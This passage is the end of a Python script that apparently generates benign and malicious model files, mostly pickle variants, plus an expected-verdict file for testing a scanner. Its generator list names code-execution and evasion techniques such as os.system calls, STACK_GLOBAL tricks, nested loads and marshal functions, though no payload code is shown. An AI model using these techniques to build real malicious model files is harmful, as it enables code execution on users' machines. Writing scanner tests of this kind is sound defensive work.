    benign("other/README.txt", b"This repository holds a small test model.\nLicense: MIT\n", "text file")
    benign("other/random.bin", bytes(random.Random(8).randrange(256) for _ in range(65536)), "random bytes")
    benign("other/empty", b"", "empty file")


GENERATORS = [
    pickle_p0_os_system, pickle_p2_posix_system, pickle_p2_nt_system, pickle_p4_stack_global,
    pickle_p5_after_big_bytearray, pickle_p0_inst, pickle_p1_obj, pickle_p2_newobj, pickle_p4_newobj_ex,
    pickle_memo_stack_global, pickle_memoize_stack_global, pickle_getattr_import, pickle_getattr_concat,
    pickle_dotted_global, pickle_numpy_builtins, pickle_introspection, pickle_ext1, pickle_ext2,
    pickle_nested_loads, pickle_nested_c_loads, pickle_attrgetter, pickle_methodcaller_partial,
    pickle_resolve_name, pickle_import_module, pickle_marshal_function, pickle_interactive_interpreter,
    pickle_asyncio_transport, pickle_simple_calls, pickle_truncated_tail, pickle_corrupted_tail,
    pickle_second_of_two, pickle_unknown_callable, pickle_misnamed, pickle_benign,
    torch_benign, torch_malicious, torch_legacy, joblib_files, numpy_files, keras_h5, keras_v3,
    savedmodel_files, onnx_files, gguf_files, safetensors_files, archive_files, other_benign,
]


def main():
    global OUT
    if len(sys.argv) != 2:
        sys.exit("usage: generate.py OUTDIR")
    OUT = sys.argv[1]
    os.makedirs(OUT, exist_ok=True)
    for generate in GENERATORS:
        generate()
    with open(os.path.join(OUT, "expected.json"), "w") as f:
        json.dump(EXPECTED, f, indent=1, sort_keys=True)
    counts = {}
    for entry in EXPECTED.values():
        counts[entry["expect"]] = counts.get(entry["expect"], 0) + 1
    print(f"wrote {len(EXPECTED)} files to {OUT}: {counts}")


if __name__ == "__main__":
    main()
